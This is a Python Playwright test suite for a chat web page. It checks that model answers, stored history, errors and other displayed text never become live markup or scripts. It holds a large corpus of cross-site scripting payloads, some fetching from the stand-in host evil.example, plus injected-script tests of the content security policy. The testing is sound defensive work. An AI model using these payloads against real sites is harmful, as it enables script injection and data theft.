"""Nothing that a model, a user or a stored row says ever becomes markup, an address with a script, or a request."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from server.page.conftest import Tab
from server.page.stub import Stub

# The usual ways in, each of which would run `hit()` or fetch from evil.example.
CORPUS = [
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>hit()</script\n>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror=\"hit()\"//",
    "<img/src='x'/onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>*{background:url(//evil.example/c)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<a href=javascript:hit()>x</a>",
    "<a href='https://a.example' onclick=hit()>x</a>",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<textarea></textarea><img src=x onerror=hit()>",
    "<title></title><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<x contenteditable onblur=hit()>x</x>",
    "</div></article><script>hit()</script>",
    "\"><img src=x onerror=hit()>",
    "'-hit()-'",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](java\tscript:hit())",
    "[x](java\nscript:hit())",
    "[x](\u0001javascript:hit())",
    "[x](&#106;avascript:hit())",
    "[x](javascript&colon;hit())",
    "[x](%6aavascript:hit())",
    "[x](<javascript:hit()>)",
    "[x](vbscript:hit())",
    "[x](data:text/html,<script>parent.hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](blob:http://localhost/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://a.example \"onmouseover=hit()\")",
    "[x](https://a.example\" onmouseover=\"hit())",
    "[<img src=x onerror=hit()>](https://a.example)",
    "[![x](javascript:hit())](javascript:hit())",
    "![x](https://evil.example/pixel.png)",
    "![x](x\"onerror=\"hit())",
    "![x](javascript:hit())",
    "![\"onerror=\"hit()](x)",
    "<javascript:hit()>",
    "<https://a.example/\"onclick=\"hit()>",
    "<https://a.example onclick=hit()>",
    "https://a.example/\"onmouseover=hit()//",
    "https://a.example/<script>hit()</script>",
    "`<img src=x onerror=hit()>`",
    "```<script>\nhit()\n</script>\n```",
    "```html\" onload=\"hit()\n<img src=x onerror=hit()>\n```",
    "| <img src=x onerror=hit()> | b |\n|---|---|\n| <script>hit()</script> | [x](javascript:hit()) |",
    "- <img src=x onerror=hit()>\n  - <script>hit()</script>",
    "> <img src=x onerror=hit()>",
    "# <img src=x onerror=hit()>",
    "**<img src=x onerror=hit()>**",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\\<script>hit()\\</script>",
    "\\(<img src=x onerror=hit()>\\) $$\\href{javascript:hit()}{x}$$",
    "<\0script>hit()</\0script>",
    "\u202e<script>hit()</script>",
    "\ufeff<script>hit()</script>",
    "＜script＞hit()＜/script＞",
    "<a\u000chref=javascript:hit()>x</a>",
    "__proto__",
    "constructor",
    "</textarea><script>hit()</script>",
]  # fmt: skip

ALLOWED = {
    "P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "A", "SPAN", "DIV", "UL", "OL", "LI", "BLOCKQUOTE", "HR",
    "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "BUTTON",
}  # fmt: skip
ATTRIBUTES = {"class", "href", "title", "target", "rel", "tabindex", "aria-label", "type", "start", "data-done"}


def watched(tab: Tab) -> Tab:
    tab.page.add_init_script("window.hit = () => { window.wasHit = true; };")
    tab.open()
    return tab


def check(page: Page) -> None:
    """Nothing ran, and what was built of answers is of the few elements that may be."""
    assert page.evaluate("window.wasHit") is None
    elements = page.evaluate(
        """
        [...document.querySelectorAll(".prose *")].map((one) => [one.nodeName, [...one.attributes].map((a) => a.name)])
        """
    )
    assert {name for name, _ in elements} <= ALLOWED
    assert {attribute for _, attributes in elements for attribute in attributes} <= ATTRIBUTES
    links = page.evaluate("[...document.links].map((one) => [one.protocol, one.rel, one.target, one.href])")
    for protocol, rel, target, href in links:
        own = href.startswith(page.url.split("#")[0])
        assert own or (protocol in ("http:", "https:", "mailto:") and "noopener" in rel and target == "_blank"), href
    active = "script, iframe, object, embed, link, style, meta, base, form[action], img, video, audio, [srcdoc]"
    assert page.evaluate(f"document.body.querySelectorAll('{active}').length") == 0
    handlers = (
        "[...document.querySelectorAll('*')].some((one) => one.getAttributeNames().some((n) => n.startsWith('on')))"
    )
    assert page.evaluate(handlers) is False


def test_no_answer_becomes_markup(new_tab: Callable[..., Tab], stub: Stub, report_faults: Any) -> None:
    """Every payload as an answer as it is written, and in the middle of other text."""
    tab = watched(new_tab())
    stub.pieces = 5
    for number, payload in enumerate(CORPUS):
        question = f"payload {number}"
        stub.answers[question] = f"{payload}\n\ntext {payload} *and* {payload}"
        tab.answered(question)
    tab.page.locator("details summary, .code button").evaluate_all("all => all.forEach((one) => one.click())")
    check(tab.page)
    report_faults("scripts and markup in answers", 2 * len(CORPUS), len(tab.problems))


def test_what_was_written_is_what_is_shown(tab: Tab, stub: Stub) -> None:
    stub.answers["show"] = "Use `<b>` or <b>this</b> & <script>hit()</script>"
    expect(tab.answered("show").locator(".prose")).to_have_text("Use <b> or <b>this</b> & <script>hit()</script>")


def test_nothing_else_that_is_shown_becomes_markup(new_tab: Callable[..., Tab], stub: Stub) -> None:
    """Questions, thoughts, matched questions, reasons, names, errors, receipts, kept rows, tags."""
    tab = watched(new_tab())
    everything = " ".join(CORPUS)
    stub.model = stub.reasoning = everything
    matched = stub.keep(everything, everything, tags=[everything, everything], origin=everything, model=everything)
    stub.near["near"] = everything
    tab.answered(everything)
    card = tab.answered("near")
    tab.action(card, "why").click()
    card.get_by_text("The whole decision").click()
    stub.fails["/v1/chat"] = (400, everything)
    failed = tab.ask("fail")
    expect(failed).to_have_attribute("data-status", "failed")
    check(tab.page)
    stub.load = {"energy": {"<img src=x onerror=hit()>": 3.0}, "model": everything}
    for view in ("history", "cache", "dashboard", "settings"):
        tab.page.goto(f"{tab.url}/#/{view}")
        tab.page.locator("main .item, main .tile, main fieldset").first.wait_for()
        if view == "cache":
            tab.page.locator(".entry > button").last.click()
            expect(tab.page.locator(".entry-body").last).to_contain_text(matched)
        check(tab.page)


def test_a_history_that_somebody_tampered_with_does_no_harm(new_tab: Callable[..., Tab], stub: Stub) -> None:
    tab = watched(new_tab())
    for kept in ('{"a": 1}', "[", "null", '[null, {"id": 1}, {"id": "x", "at": 1, "turns": [{"question": 5}]}]'):
        tab.page.evaluate("kept => localStorage.setItem('miaotui.history', kept)", kept)
        tab.page.evaluate("kept => localStorage.setItem('miaotui.settings', kept)", kept)
        tab.page.goto(f"{tab.url}/?again={len(kept)}#/history")
        expect(tab.page.locator(".empty")).to_have_text("Nothing asked yet.")


@pytest.mark.parametrize("breach", ["script", "handler", "style", "image", "eval", "markup"])
def test_the_policy_would_hold_if_the_page_did_not(new_tab: Callable[..., Tab], breach: str) -> None:
    tab = watched(new_tab())
    code = {
        "script": "const s = document.createElement('script'); s.textContent = 'hit()'; document.body.append(s)",
        "handler": "document.body.setAttribute('onclick', 'hit()'); document.body.click()",
        "style": "const s = document.createElement('style'); s.append('*{display:none}'); document.body.append(s)",
        "image": "const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i)",
        "eval": "setTimeout('hit()', 0)",
        "markup": "document.body.innerHTML = '<img src=x onerror=hit()>'",
    }[breach]
    tab.page.evaluate(f"() => {{ try {{ {code} }} catch {{}} }}")
    tab.page.wait_for_function("() => new Promise((done) => setTimeout(() => done(true), 0))")
    assert tab.page.evaluate("window.wasHit") is None
    expect(tab.page.locator("#question")).to_be_visible()
    assert tab.problems, "the browser was to complain"
    tab.problems.clear()
